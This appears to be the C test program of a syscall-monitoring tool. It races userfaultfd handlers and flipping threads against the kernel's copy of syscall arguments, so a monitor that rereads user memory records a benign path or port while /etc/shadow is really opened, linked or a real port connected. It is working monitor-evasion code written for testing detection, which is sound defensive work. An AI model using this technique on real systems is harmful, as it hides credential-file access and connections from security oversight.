/* Races a syscall's argument against the kernel's copy of it (falcoish's own test program).
 *
 * uffd-*: the argument ends on a page registered with userfaultfd; the kernel's copy faults
 *   on that page and waits while the handler rewrites the part already copied, then supplies
 *   the rest: the kernel used the original, memory afterwards says the rewrite.
 * race-*: a second thread, on the other CPU, flips the argument between two values while
 *   the first thread makes the call again and again.
 * page-open: near miss, the path sits on a file-backed page never touched before the call.
 *
 * usage: phantom MODE N [ARGS...] MARKER     (MARKER only tags the command line)
 *   uffd-open N | race-open N | page-open N          open /etc/shadow (race: or /etc/passwd)
 *   uffd-symlink N DIR | race-symlink N DIR          symlinkat target /etc/shadow into DIR
 *   uffd-connect N IP PORT OTHER | race-connect N IP PORT OTHER
 * prints the number of calls that really reached /etc/shadow (by inode), a link whose
 * target really is /etc/shadow, or a peer on PORT. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static long pg;
static int uffd = -1;
static char *area;                       /* two pages; the second is registered */
static char tailbuf[64];                 /* what the handler supplies at the second page */
static size_t taillen;
static char *patch_at;                   /* what the handler rewrites in the first page */
static char patch[16];
static size_t patchlen;
static volatile int stop;
static struct stat shadow;

static void pin(int cpu) {
    cpu_set_t s; CPU_ZERO(&s); CPU_SET(cpu, &s);
    pthread_setaffinity_np(pthread_self(), sizeof s, &s);
}

static void *handler(void *arg) {
    (void)arg;
    struct pollfd p = { .fd = uffd, .events = POLLIN };
    char *src = aligned_alloc(pg, pg);
    while (!stop) {
        if (poll(&p, 1, 200) <= 0) continue;
        struct uffd_msg m;
        if (read(uffd, &m, sizeof m) != sizeof m || m.event != UFFD_EVENT_PAGEFAULT) continue;
        memcpy(patch_at, patch, patchlen);
        memset(src, 0, pg); memcpy(src, tailbuf, taillen);
        struct uffdio_copy c = { .dst = (unsigned long)area + pg, .src = (unsigned long)src, .len = pg };
        ioctl(uffd, UFFDIO_COPY, &c);
    }
    return NULL;
}

/* Lay out `len` bytes of `arg` so that the first `head` of them end the first page; the
 * rest comes from the handler; the handler first rewrites `plen` bytes at offset `off`. */
static char *uffd_place(const void *arg, size_t len, size_t head, size_t off, const void *p, size_t plen) {
    area = mmap(NULL, 2 * pg, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register r = { .range = { (unsigned long)area + pg, pg }, .mode = UFFDIO_REGISTER_MODE_MISSING };
    if (area == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &r)) { perror("uffd register"); exit(1); }
    char *at = area + pg - head;
    memcpy(at, arg, head);
    taillen = len - head; memcpy(tailbuf, (const char *)arg + head, taillen);
    patch_at = at + off; memcpy(patch, p, plen); patchlen = plen;
    return at;
}

static void uffd_start(void) {
    uffd = syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    struct uffdio_api api = { .api = UFFD_API };
    if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api)) { perror("userfaultfd"); exit(1); }
    pthread_t t; pthread_create(&t, NULL, handler, NULL);
}

static int is_shadow_fd(int fd) {
    struct stat s;
    return fd >= 0 && fstat(fd, &s) == 0 && s.st_ino == shadow.st_ino && s.st_dev == shadow.st_dev;
}

static int link_is_shadow(const char *link) {
    char b[64] = {0};
    return readlink(link, b, sizeof b - 1) > 0 && !strcmp(b, "/etc/shadow");
}

static int peer_port(int s) {
    struct sockaddr_in a; socklen_t l = sizeof a;
    return getpeername(s, (struct sockaddr *)&a, &l) == 0 ? ntohs(a.sin_port) : -1;
}

/* race-*: the flipped buffer and its two values */
static volatile char rbuf[64];
static char rval[2][64];
static size_t roff, rlen;
static void *flipper(void *arg) {
    (void)arg;
    pin(1);
    while (!stop)
        for (int v = 0; v < 2; v++)
            for (size_t i = 0; i < rlen; i++) rbuf[roff + i] = rval[v][roff + i];
    return NULL;
}
static void race_start(const void *a, const void *b, size_t len, size_t off, size_t n) {
    memcpy(rval[0], a, len); memcpy(rval[1], b, len); memcpy((char *)rbuf, a, len);
    roff = off; rlen = n;
    pthread_t t; pthread_create(&t, NULL, flipper, NULL);
    pin(0);
}

static struct sockaddr_in inet(const char *ip, int port) {
    struct sockaddr_in a; memset(&a, 0, sizeof a);
    a.sin_family = AF_INET; a.sin_port = htons(port); inet_pton(AF_INET, ip, &a.sin_addr);
    return a;
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *mode = argv[1];
    int n = atoi(argv[2]), real = 0;
    pg = sysconf(_SC_PAGESIZE);
    if (stat("/etc/shadow", &shadow)) { perror("/etc/shadow"); return 1; }
    static const char target[] = "/etc/shadow";
    if (!strncmp(mode, "uffd-", 5)) uffd_start();
    if (!strcmp(mode, "uffd-open")) {
        for (int i = 0; i < n; i++) {
            char *p = uffd_place(target, sizeof target, 9, 0, "/tmp", 4);   /* "/etc/shad" | "ow" */
            int fd = open(p, O_RDONLY);
            real += is_shadow_fd(fd);
            if (fd >= 0) close(fd);
            munmap(area, 2 * pg);
        }
    } else if (!strcmp(mode, "uffd-symlink") || !strcmp(mode, "race-symlink")) {
        char link[4096];
        int race = mode[0] == 'r';
        if (race) race_start(target, "/etc/passwd", sizeof target, 5, 6);
        for (int i = 0; i < n; i++) {
            snprintf(link, sizeof link, "%s/l%d", argv[3], i);
            const char *p = race ? (const char *)rbuf : uffd_place(target, sizeof target, 9, 0, "/tmp", 4);
            symlinkat(p, AT_FDCWD, link);
            real += link_is_shadow(link);
            unlink(link);
            if (!race) munmap(area, 2 * pg);
        }
    } else if (!strcmp(mode, "uffd-connect") || !strcmp(mode, "race-connect")) {
        int race = mode[0] == 'r', port = atoi(argv[4]), other = atoi(argv[5]);
        struct sockaddr_in a = inet(argv[3], port), b = inet(argv[3], other);
        if (race) race_start(&a, &b, sizeof a, 2, 2);
        for (int i = 0; i < n; i++) {
            int s = socket(AF_INET, SOCK_STREAM, 0);
            const void *p = race ? (const void *)rbuf : uffd_place(&a, sizeof a, 8, 2, &b.sin_port, 2);
            connect(s, (const struct sockaddr *)p, sizeof a);
            real += peer_port(s) == port;
            close(s);
            if (!race) munmap(area, 2 * pg);
        }
    } else if (!strcmp(mode, "race-open")) {
        race_start(target, "/etc/passwd", sizeof target, 5, 6);
        for (int i = 0; i < n; i++) {
            int fd = open((const char *)rbuf, O_RDONLY);
            real += is_shadow_fd(fd);
            if (fd >= 0) close(fd);
        }
    } else if (!strcmp(mode, "page-open")) {
        char file[] = "/tmp/phantom-pageXXXXXX";
        int f = mkstemp(file);
        static const char benign[] = "/etc/hostname";
        for (int i = 0; i < n; i++) {
            char *page = calloc(1, pg);
            memcpy(page + pg - 9, benign, 9);                  /* "/etc/host" | "name" */
            if (ftruncate(f, 0) || pwrite(f, page, pg, 0) != pg || pwrite(f, benign + 9, sizeof benign - 9, pg) < 0) return 1;
            fsync(f);
            posix_fadvise(f, 0, 0, POSIX_FADV_DONTNEED);
            char *m = mmap(NULL, 2 * pg, PROT_READ, MAP_PRIVATE, f, 0);     /* neither page touched */
            int fd = open(m + pg - 9, O_RDONLY);
            real += fd >= 0;
            if (fd >= 0) close(fd);
            munmap(m, 2 * pg); free(page);
        }
        unlink(file);
    } else {
        return 2;
    }
    stop = 1;
    printf("%d\n", real);
    return 0;
}
